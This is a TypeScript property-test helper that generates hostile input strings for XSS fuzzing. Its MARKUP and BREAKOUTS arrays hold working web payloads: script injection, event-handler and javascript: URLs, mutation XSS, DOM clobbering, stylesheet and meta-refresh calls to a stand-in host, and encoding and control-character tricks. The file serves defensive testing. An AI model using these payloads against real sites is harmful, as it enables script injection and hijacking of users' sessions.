import fc from "fast-check";

/**
 * What strangers write into texts to have a browser do it. Each calls `canary`, or leaves an element whose id, name or
 * class begins with `canary`, or asks a host that is not ours. Kinds after OWASP's XSS filter evasion list, the HTML
 * standard's parser states, and what is known of mutation XSS and DOM clobbering; written for this test.
 */
const MARKUP = [
  "<script>canary(1)</script>",
  "<ScRiPt src=//canary.test/x.js></sCrIpT>",
  "</script><script>canary(2)</script>",
  "<img id=canary1 src=x onerror=canary(3)>",
  "<img/src=`x`onerror=canary(4)//",
  "<svg id=canary2 onload=canary(5)><animate onbegin=canary(6) attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>canary(7)</script></svg>#x'/>",
  "<math><mtext><table><mglyph><style><!--</style><img id=canary3 title='--><img src=x onerror=canary(8)>'>",
  "<noscript><p title='</noscript><img id=canary4 src=x onerror=canary(9)>'>",
  "<template><script>canary(10)</script></template><b id=canary5>",
  "<details id=canary6 open ontoggle=canary(11)><summary>x</summary></details>",
  "<iframe id=canary7 srcdoc='<script>parent.canary(12)</script>'></iframe>",
  "<object data=javascript:canary(13)></object><embed src=data:text/html,<script>canary(14)</script>>",
  "<a id=canary8 href=javascript:canary(15)>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4='>x</a>",
  "<base id=canary9 href=//canary.test/>",
  "<meta id=canary10 http-equiv=refresh content='0;url=//canary.test/'>",
  "<link id=canary11 rel=stylesheet href=//canary.test/x.css>",
  "<style id=canary12>@import '//canary.test/y.css';*{background:url(//canary.test/z)}</style>",
  "<form id=canary13 action=//canary.test/><input name=canary14 type=submit formaction=javascript:canary(16)>",
  "</form></details></main></body><form id=canary15 method=post action=/sign-out>",
  "<input id=canary16 autofocus onfocus=canary(17)>",
  "<b class=canary17 style='position:fixed;inset:0'>",
  "<button id=canary18 data-copy='#curl' data-live=/live formaction=//canary.test/>",
  "<div id=canary19 data-live><p id=live>x</p></div>",
  "<a id=getElementById></a><form name=querySelectorAll></form><img name=canary20>",
] as const;

const BREAKOUTS = [
  ...[`">`, `'>`, "`>", `" onmouseover="canary(20)" id="canary21`, `' autofocus onfocus='canary(21)`, `"/>`],
  ...[
    "</pre>",
    "</title>",
    "</textarea>",
    "</style>",
    "</svg>",
    "</option></select>",
    "</li></ul>",
    "</dd></dl>",
  ],
  ...["<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?xml", "<!doctype html>", "</", "<", "&lt;script&gt;"],
  ...[
    "&#60;img id=canary22&#62;",
    "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003ecanary(22)\\u003c/script\\u003e",
  ],
  ...[
    "{{constructor.constructor('canary(23)')()}}",
    "${canary(24)}",
    "javascript:canary(25)",
    "%3Cscript%3E",
  ],
  ...[
    "+ADw-script+AD4-canary(26)+ADw-/script+AD4-",
    "\\x3cb id=canary23\\x3e",
    "*/canary(27)/*",
    `";canary(28)//`,
  ],
  ...[
    "\u0000",
    "<\u0000script>canary(29)</script>",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\r\n\r\n",
  ],
  ...[
    "data:,x\r\n\r\nevent: changed\r\ndata: x\r\n\r\n",
    "＜script＞canary(30)＜/script＞",
    "\u001b]8;;x\u0007",
    "%0d%0a",
  ],
  ...["__proto__", "constructor", "A".repeat(3000), "‮".repeat(200), "ก็".repeat(100), "\ud800"],
];

/** Pieces as they are, or one after another. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...MARKUP), fc.constantFrom(...BREAKOUTS)), { minLength: 1, maxLength: 4 })
  .map((pieces) => pieces.join(""));

/** Every piece at least once, in an order of its own, among mixtures of them. */
export const hostileTexts: fc.Arbitrary<string[]> = fc
  .tuple(
    fc.shuffledSubarray([...MARKUP, ...BREAKOUTS], { minLength: MARKUP.length + BREAKOUTS.length }),
    fc.array(hostileText, { minLength: 40, maxLength: 40 }),
  )
  .map(([pieces, mixed]) => mixed.flatMap((text, at) => [text, ...pieces.slice(at * 2, at * 2 + 2)]));

/** The same value with every text in it replaced, but those under names that make it a cancellation at all. */
export function filledWith(value: unknown, next: () => string, kept: RegExp): unknown {
  const walk = (part: unknown, name: string): unknown => {
    if (typeof part === "string") return kept.test(name) ? part : next();
    if (Array.isArray(part)) return part.map((inner) => walk(inner, name));
    if (typeof part !== "object" || part === null) return part;
    return Object.fromEntries(Object.entries(part).map(([key, inner]) => [key, walk(inner, key)]));
  };
  return walk(value, "");
}
